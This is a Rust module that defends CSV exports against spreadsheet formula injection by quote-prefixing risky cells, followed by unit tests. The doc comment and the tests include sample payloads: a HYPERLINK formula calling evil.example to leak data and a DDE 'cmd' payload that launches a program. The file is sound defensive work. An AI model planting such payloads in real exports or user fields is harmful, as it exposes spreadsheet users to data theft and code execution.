//! Cells that are safe to open in a spreadsheet.
//!
//! Usernames, display names, departments and user agents reach CSV exports that an auditor
//! opens in Excel or LibreOffice. A cell that starts with `=`, `+`, `-` or `@` (or with a tab
//! or carriage return, which some spreadsheets skip before reading a formula) is run as a
//! formula there: `=HYPERLINK(...)` leaks data on a click, `@SUM(1+1)*cmd|' /C calc'!A0`
//! starts a program through DDE. Following OWASP's advice, such a cell is prefixed with a
//! single quote, which spreadsheets read as "this is text" and do not show.
//!
//! Two kinds of cell starting with `-` or `+` are left alone because no spreadsheet can run
//! anything from them and a prefix would spoil them: a plain signed decimal number (`-3`
//! days left, `+1.5`), read as a number, and a lone `-`, the reports' "nothing here".
//!
//! Every CSV Twofold writes goes through one writer (`twofold_app::csv_out`) that applies
//! [`neutralise_cell`] to each cell; this module holds only the pure rule.

use std::borrow::Cow;

/// The first characters that make a spreadsheet read a cell as a formula.
const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a spreadsheet would read `cell` as a formula (or could, after skipping a
/// leading tab or carriage return). A plain signed number and a lone `-` are not.
#[must_use]
pub fn is_formula_like(cell: &str) -> bool {
    cell.starts_with(FORMULA_TRIGGERS) && cell != "-" && !is_signed_decimal(cell)
}

/// `-12`, `+3.5`: a sign, digits, at most one point with digits after it; nothing else.
fn is_signed_decimal(cell: &str) -> bool {
    let Some(unsigned) = cell.strip_prefix(['-', '+']) else { return false };
    let (whole, fraction) = unsigned.split_once('.').unwrap_or((unsigned, "0"));
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && digits(fraction)
}

/// `cell` as a spreadsheet should see it: unchanged unless it starts with `=`, `+`, `-`,
/// `@`, a tab or a carriage return, in which case it is prefixed with `'` so it is shown as
/// text and never evaluated (and a cell starting with `'` gets one more, so two values never
/// export alike).
#[must_use]
pub fn neutralise_cell(cell: &str) -> Cow<'_, str> {
    // A cell that already starts with the quote gets one more, so `'=x` and `=x` stay apart.
    if is_formula_like(cell) || cell.starts_with('\'') { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_quoted_value_stays_distinct_from_a_neutralised_formula() {
        assert_ne!(neutralise_cell("'=x"), neutralise_cell("=x"));
    }

    #[test]
    fn a_hyperlink_formula_in_a_username_is_shown_as_text() {
        let cell = r#"=HYPERLINK("http://evil.example/?x","click")"#;
        assert_eq!(neutralise_cell(cell), format!("'{cell}"));
    }

    #[test]
    fn a_dde_payload_in_a_department_is_shown_as_text() {
        let cell = "@SUM(1+1)*cmd|' /C calc'!A0";
        assert_eq!(neutralise_cell(cell), format!("'{cell}"));
    }

    #[test]
    fn every_trigger_character_is_neutralised() {
        for cell in ["=1+1", "+1+1", "-1+1", "@A1", "\t=1+1", "\r=1+1"] {
            let out = neutralise_cell(cell);
            assert!(out.starts_with('\''), "{cell:?} became {out:?}");
            assert_eq!(&out[1..], cell, "the value itself is kept");
        }
    }

    #[test]
    fn ordinary_cells_are_left_alone_and_not_copied() {
        for cell in ["alice", "", "2024-01-01T00:00:00Z", "{\"a\":1}", "1", "a=b", " x"] {
            assert!(matches!(neutralise_cell(cell), Cow::Borrowed(c) if c == cell), "{cell:?}");
        }
    }

    #[test]
    fn signed_numbers_and_a_lone_dash_stay_as_they_are() {
        for cell in ["-", "-3", "+12", "-0.5", "+100.25"] {
            assert_eq!(neutralise_cell(cell), cell, "{cell:?}");
        }
        for cell in ["-1+1", "+1-1", "-3.", "-.5", "--1", "-1e5", "+-1", "-1 ", "-1,2"] {
            assert_eq!(neutralise_cell(cell), format!("'{cell}"), "{cell:?} could be a formula");
        }
    }

    #[test]
    fn a_trigger_later_in_the_cell_is_not_a_formula() {
        assert!(!is_formula_like("alice=bob"));
        assert!(!is_formula_like("a-b"));
    }
}
